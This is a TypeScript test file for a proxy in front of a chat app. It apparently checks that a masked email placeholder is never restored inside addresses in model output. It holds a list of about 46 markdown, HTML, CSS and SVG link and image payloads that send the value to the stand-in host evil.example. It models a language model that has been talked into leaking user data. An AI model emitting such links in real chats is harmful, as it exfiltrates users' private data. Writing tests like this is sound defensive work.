import { chat, receivedByDify, startStack } from '../../support/stack.ts'
import type { Fault } from '../fault.ts'

const VALUE = 'links.canary@example.vn'
const EVIL = 'evil.example'

/** Ways to make a page of chat fetch an address, or a person follow it, with a placeholder in it. */
const LINKS: readonly string[] = [
  `![x](https://${EVIL}/?q=EMAIL_1)`,
  `[x](https://${EVIL}/EMAIL_1)`,
  `[x](//${EVIL}/EMAIL_1 "title")`,
  `![x](<https://${EVIL}/? EMAIL_1>)`,
  `![x][r]\n\n[r]: https://${EVIL}/EMAIL_1`,
  `[r]: <https://${EVIL}/? EMAIL_1>`,
  `<https://${EVIL}/?EMAIL_1>`,
  `https://${EVIL}/EMAIL_1`,
  `https://EMAIL_1.${EVIL}/`,
  `https://EMAIL_1@${EVIL}/`,
  `www.${EVIL}/EMAIL_1`,
  `HTTPS:/${EVIL}/EMAIL_1`,
  `https:\\\\${EVIL}\\EMAIL_1`,
  `https://${EVIL}/?q=EMAIL%5F1`,
  `https://${EVIL}/?q=%45MAIL_1`,
  `https://${EVIL}/?q=email-1`,
  `https://${EVIL}/#EMAIL_1`,
  `wss:${EVIL}/EMAIL_1`,
  `<img src="https://${EVIL}/?q=EMAIL_1">`,
  `<img src='https://${EVIL}/?\n\nEMAIL_1'>`,
  `<img src=https:\\\\${EVIL}\\EMAIL_1>`,
  `<img src="&#104;ttps:&#47;&#47;${EVIL}/?EMAIL_1">`,
  `<img srcset="/a 1x, https://${EVIL}/EMAIL_1 2x">`,
  `<a href="https://${EVIL}/? EMAIL_1">click</a>`,
  `<a href="mailto:eve@${EVIL}?body=EMAIL_1">write</a>`,
  `<form action="https://${EVIL}/?EMAIL_1">`,
  `<p style="background:url(https://${EVIL}/EMAIL_1)">`,
  `<style>p { background: url("https://${EVIL}/ EMAIL_1") }</style>`,
  `<iframe srcdoc="&lt;img src=https:&#47;&#47;${EVIL}/EMAIL_1&gt;">`,
  `<meta http-equiv=refresh content="0;url=https&colon;//${EVIL}/ EMAIL_1">`,
  `<svg><image xlink:href="https://${EVIL}/EMAIL_1"/></svg>`,
  `<object data="data:text/html,<img src=//${EVIL}/EMAIL_1>">`,
  `[x](mailto:eve@${EVIL}?body=EMAIL_1)`,
  `[x](tel:+84?EMAIL_1)`,
  `[x](/redirect?to=EMAIL_1)`,
  `![x](https://${EVIL}/?q=\`EMAIL_1)`,
  `![x](https://${EVIL}/?q=>EMAIL_1)`,
  `![x](https://${EVIL}/?q=<EMAIL_1)`,
  `![x](https://${EVIL}/?q=\\)EMAIL_1)`,
  `![x](https://${EVIL}/?q=\u00a0EMAIL_1)`,
  `![x]( &#104;ttps:&#47;&#47;${EVIL}/?q=EMAIL_1)`,
  `![x](<https://${EVIL}/?q=\\>EMAIL_1>)`,
  `![r]\n\n[r]: https://${EVIL}/?q=\`EMAIL_1`,
  `![r]\n\n[r]: &#104;ttps:&#47;&#47;${EVIL}/?q=EMAIL_1`,
  `https://${EVIL}/?q=\`EMAIL_1`,
  `https://${EVIL}/?q=>EMAIL_1`,
]

const PLAIN = 'write to EMAIL_1'

const count = (text: string, part: string): number => text.split(part).length - 1

/** A model that was talked into carrying values away. */
const links: Fault = {
  id: 'R17',
  title: `${LINKS.length} kinds of links, images, references, tags and styles with a placeholder in the address, whole and letter by letter`,
  goal: 'no value in an address; the same placeholder beside it is restored',
  limitSeconds: 120,
  isShort: true,
  async run(attempt) {
    const stack = await startStack()
    try {
      let carried = 0
      let restored = 0
      for (const link of LINKS) {
        for (const mode of ['blocking', 'streaming'] as const) {
          stack.dify.script({ answer: `${link}\n\n${PLAIN}`, deltas: 'char' })
          const seen = await chat(stack.envoy.proxyUrl, `I am ${VALUE}`, { mode })
          const shown = seen.answer
          // In whatever form an address would carry it.
          const [name = ''] = VALUE.split('@')
          const isRestored = shown.endsWith(`write to ${VALUE}`)
          if (isRestored) restored++
          const inAddress = count(shown, name) - (isRestored ? 1 : 0)
          if (inAddress > 0) {
            carried += inAddress
            attempt.remark(`carried by ${link.split(EVIL).join('…')} (${mode})`)
          }
          attempt.sent(1)
        }
      }
      attempt.injected(2 * LINKS.length)
      attempt.figure('values in addresses', carried, { exactly: 0 })
      attempt.figure('restored beside them', restored, { exactly: 2 * LINKS.length })
      attempt.reachedDify(receivedByDify(stack), [VALUE])
    } finally {
      await stack.stop()
    }
  },
}

export const faults: readonly Fault[] = [links]
